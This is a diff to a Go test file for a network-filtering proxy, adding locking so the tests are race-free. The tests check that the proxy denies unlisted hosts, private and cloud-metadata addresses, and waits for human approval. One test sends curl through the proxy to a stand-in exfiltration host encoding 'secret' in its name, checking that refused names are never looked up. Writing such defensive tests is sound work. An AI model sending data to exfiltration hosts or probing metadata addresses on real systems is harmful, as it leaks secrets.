@@ -10,6 +10,7 @@ import (
 	"net/netip"
 	"os/exec"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 
@@ -61,12 +62,28 @@ func TestRules(t *testing.T) {
 // names where the test says (the sandboxes' real resolver is the
 // machine's; these machines have no internet).
 type world struct {
-	p       *Proxy
-	hits    atomic.Int64
-	http    *httptest.Server
-	tls     *httptest.Server
+	p    *Proxy
+	hits atomic.Int64
+	http *httptest.Server
+	tls  *httptest.Server
+	// The proxy calls back on its own goroutines and the test reads after
+	// curl (another process) returns, which the race detector cannot see
+	// as an ordering: every shared field goes through mu.
+	mu      sync.Mutex
 	decided []string
 	names   map[string]netip.Addr
+}
+
+func (w *world) name(host string, ip string) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	w.names[host] = netip.MustParseAddr(ip)
+}
+
+func (w *world) decisions() []string {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	return append([]string(nil), w.decided...)
 }
 
 func newWorld(t *testing.T, rules func(httpPort, tlsPort int) Rules, ask func(host string, port int) Answer) *world {
@@ -82,9 +99,13 @@ func newWorld(t *testing.T, rules func(httpPort, tlsPort int) Rules, ask func(ho
 	cfg := Config{
 		Rules: rules(port(w.http.URL), port(w.tls.URL)),
 		Decided: func(host string, port int, d Decision) {
+			w.mu.Lock()
+			defer w.mu.Unlock()
 			w.decided = append(w.decided, fmt.Sprintf("%s:%d=%s", host, port, d))
 		},
 		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
+			w.mu.Lock()
+			defer w.mu.Unlock()
 			if ip, ok := w.names[host]; ok {
 				return []netip.Addr{ip}, nil
 			}
@@ -142,8 +163,8 @@ func TestProxyThroughRealClients(t *testing.T) {
 	assert.Contains(t, string(body), "hello from localhost")
 
 	before := w.hits.Load()
-	w.names["www.allowed.test"] = netip.MustParseAddr("127.0.0.1") // an allowed name pointing home
-	w.names["meta.allowed.test"] = netip.MustParseAddr("169.254.169.254")
+	w.name("www.allowed.test", "127.0.0.1") // an allowed name pointing home
+	w.name("meta.allowed.test", "169.254.169.254")
 	for _, target := range []string{
 		fmt.Sprintf("http://localhost:%d/", hp+1),            // unlisted port
 		fmt.Sprintf("http://127.0.0.1:%d/", hp),              // an IP nobody listed
@@ -162,33 +183,40 @@ func TestProxyThroughRealClients(t *testing.T) {
 	assert.Contains(t, out, `add allowed_domains = ["nowhere.test"] to ~/.config/cordon/config.toml`, "the 403 names the host and the config line")
 	assert.Contains(t, w.p.Blocked(), "nowhere.test:80")
 	assert.Contains(t, w.p.Blocked(), "bad.allowed.test:"+fmt.Sprint(hp))
-	assert.Contains(t, w.decided, fmt.Sprintf("bad.allowed.test:%d=deny", hp))
+	assert.Contains(t, w.decisions(), fmt.Sprintf("bad.allowed.test:%d=deny", hp))
+	w.mu.Lock()
 	_, resolved := w.names["nowhere.test"]
+	w.mu.Unlock()
 	assert.False(t, resolved)
 }
 
 // TestProxyNeverResolvesARefusedName: a refused name is not looked up, so
 // it cannot carry data out in a DNS query.
 func TestProxyNeverResolvesARefusedName(t *testing.T) {
-	var looked []string
+	var looked atomic.Int64
 	p, err := Start(Config{Rules: Rules{Allowed: []string{"ok.test"}},
 		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
-			looked = append(looked, host)
+			looked.Add(1)
 			return nil, fmt.Errorf("no")
 		}}, "")
 	require.NoError(t, err)
 	defer p.Close()
 	exec.Command("curl", "-sS", "--max-time", "5", "--proxy", fmt.Sprintf("http://127.0.0.1:%d", p.Port()), "http://c2VjcmV0.exfil.test/").Run()
 	exec.Command("curl", "-sS", "--max-time", "5", "--proxy", fmt.Sprintf("socks5h://127.0.0.1:%d", p.Port()), "http://c2VjcmV0.exfil.test/").Run()
-	assert.Empty(t, looked)
+	assert.Zero(t, looked.Load(), "names looked up")
 }
 
 // TestProxyAsks: an unlisted host waits for the human; allowed once, it
 // stays allowed for the rest of the call, and is not asked about again.
 func TestProxyAsks(t *testing.T) {
-	var asked []string
-	answer := AllowOnce
+	var (
+		mu     sync.Mutex
+		asked  []string
+		answer = AllowOnce
+	)
 	w := newWorld(t, func(h, s int) Rules { return Rules{} }, func(host string, port int) Answer {
+		mu.Lock()
+		defer mu.Unlock()
 		asked = append(asked, fmt.Sprintf("%s:%d", host, port))
 		return answer
 	})
@@ -198,18 +226,22 @@ func TestProxyAsks(t *testing.T) {
 		require.NoError(t, err, out)
 		assert.Contains(t, out, "hello from localhost", "the human named localhost:%d", hp)
 	}
+	mu.Lock()
 	assert.Equal(t, []string{fmt.Sprintf("localhost:%d", hp)}, asked, "asked once")
-	assert.Contains(t, w.decided, fmt.Sprintf("localhost:%d=asked-allow", hp))
+	mu.Unlock()
+	assert.Contains(t, w.decisions(), fmt.Sprintf("localhost:%d=asked-allow", hp))
 
 	// A name the human allows still does not open a private address.
-	w.names["svc.test"] = netip.MustParseAddr("127.0.0.1")
+	w.name("svc.test", "127.0.0.1")
 	out, _ := w.curl(t, "-i", fmt.Sprintf("http://svc.test:%d/", hp))
 	assert.Contains(t, out, "403")
 
+	mu.Lock()
 	answer = Refuse
+	mu.Unlock()
 	before := w.hits.Load()
 	out, _ = w.curl(t, "-i", fmt.Sprintf("http://127.0.0.1:%d/", hp))
 	assert.Contains(t, out, fmt.Sprintf("the human did not allow 127.0.0.1:%d", hp))
-	assert.Contains(t, w.decided, fmt.Sprintf("127.0.0.1:%d=asked-deny", hp))
+	assert.Contains(t, w.decisions(), fmt.Sprintf("127.0.0.1:%d=asked-deny", hp))
 	assert.Equal(t, before, w.hits.Load())
 }
